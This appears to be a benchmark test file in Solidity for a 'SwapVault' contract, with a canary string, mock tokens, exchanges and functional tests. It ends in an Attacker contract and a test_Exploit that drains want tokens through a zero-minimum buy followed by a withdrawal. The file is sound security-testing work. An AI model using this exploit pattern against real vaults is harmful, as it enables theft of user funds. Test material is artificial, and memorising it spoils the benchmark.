// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "@openzeppelin/contracts@3.4.2/token/ERC20/ERC20.sol";
import "./SwapVault.sol";

// assay-canary-8b6a437b-666a-4507-ae70-b6c67a523687

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Coin is ERC20 {
    constructor() public ERC20("Coin", "COIN") {
        _mint(msg.sender, 1_000_000e18);
    }
}

// A pool of both coins with a constant product.
contract Exchange is IExchange {
    IERC20 private coin;
    IERC20 private want;

    constructor(IERC20 c, IERC20 w) public {
        coin = c;
        want = w;
    }

    function quote(uint256 amount) external view override returns (uint256) {
        return (amount * want.balanceOf(address(this))) / coin.balanceOf(address(this));
    }

    function swap(uint256 amount, address to) external override returns (uint256 sent) {
        sent = (amount * want.balanceOf(address(this))) / (coin.balanceOf(address(this)) + amount);
        coin.transferFrom(msg.sender, address(this), amount);
        want.transfer(to, sent);
    }
}

// Sells at a fixed rate, two for one.
contract FixedRate is IExchange {
    IERC20 private coin;
    IERC20 private want;

    constructor(IERC20 c, IERC20 w) public {
        coin = c;
        want = w;
    }

    function quote(uint256 amount) external view override returns (uint256) {
        return amount * 2;
    }

    function swap(uint256 amount, address to) external override returns (uint256 sent) {
        sent = amount * 2;
        coin.transferFrom(msg.sender, address(this), amount);
        want.transfer(to, sent);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant GOV = address(0x60F);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);

    Coin private coin;
    Coin private want_;
    Exchange private pool;
    SwapVault private vault;
    Attacker private mallory;

    function setUp() public {
        coin = new Coin();
        want_ = new Coin();
        pool = new Exchange(coin, want_);
        coin.transfer(address(pool), 10_000e18);
        want_.transfer(address(pool), 10_000e18);
        vm.prank(GOV);
        vault = new SwapVault(want_, coin, pool);
        want_.transfer(ANA, 21_000e18);
        coin.transfer(BEN, 1_000e18);
        vm.startPrank(ANA);
        want_.approve(address(vault), uint256(-1));
        vault.deposit(20_000e18);
        vm.stopPrank();
        vm.prank(BEN);
        coin.approve(address(vault), uint256(-1));
        mallory = new Attacker(vault, coin);
        coin.transfer(address(mallory), 10_000e18);
    }

    function test_Regular() public {
        vm.prank(ANA);
        vault.deposit(1_000e18);
        require(vault.balances(ANA) == 21_000e18 && vault.total() == 21_000e18, "paid in");
        FixedRate fixed_ = new FixedRate(coin, want_);
        want_.transfer(address(fixed_), 2_000e18);
        vm.prank(GOV);
        vault.setExchange(fixed_);
        vm.startPrank(BEN);
        vault.buy(100e18, 200e18);
        vault.buy(50e18, 0);
        vm.stopPrank();
        require(vault.balances(BEN) == 300e18 && coin.balanceOf(address(fixed_)) == 150e18, "bought");
        require(vault.total() == 21_300e18 && want_.balanceOf(address(vault)) == 21_300e18, "held");
        vm.prank(ANA);
        vault.withdraw(500e18);
        require(want_.balanceOf(ANA) == 500e18 && vault.balances(ANA) == 20_500e18, "paid out");
        vm.startPrank(GOV);
        vault.setExchange(pool);
        vault.transferOwnership(ANA);
        vm.stopPrank();
        vm.prank(ANA);
        vault.renounceOwnership();
    }

    function test_RefusesSetups() public {
        vm.expectRevert("!coin");
        new SwapVault(coin, coin, pool);
        vm.prank(GOV);
        vm.expectRevert("!exchange");
        vault.setExchange(IExchange(0));
        vm.expectRevert("Ownable: caller is not the owner");
        vault.setExchange(pool);
    }

    function test_RefusesAmounts() public {
        vm.startPrank(ANA);
        vm.expectRevert("!amount");
        vault.deposit(0);
        vm.expectRevert("!balance");
        vault.withdraw(20_000e18 + 1);
        vm.expectRevert("ERC20: transfer amount exceeds balance");
        vault.deposit(1_001e18);
        vm.stopPrank();
        vm.startPrank(BEN);
        vm.expectRevert("!min");
        vault.buy(1_000e18, 1_001e18);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(want_.balanceOf(address(mallory)) >= 9_000e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function want() public view returns (address) {
        return address(want_);
    }
}

contract Attacker {
    SwapVault private vault;
    Coin private coin;

    constructor(SwapVault v, Coin c) public {
        vault = v;
        coin = c;
    }

    function run() external {
        coin.approve(address(vault), 10_000e18);
        vault.buy(10_000e18, 0);
        vault.withdraw(10_000e18);
    }
}
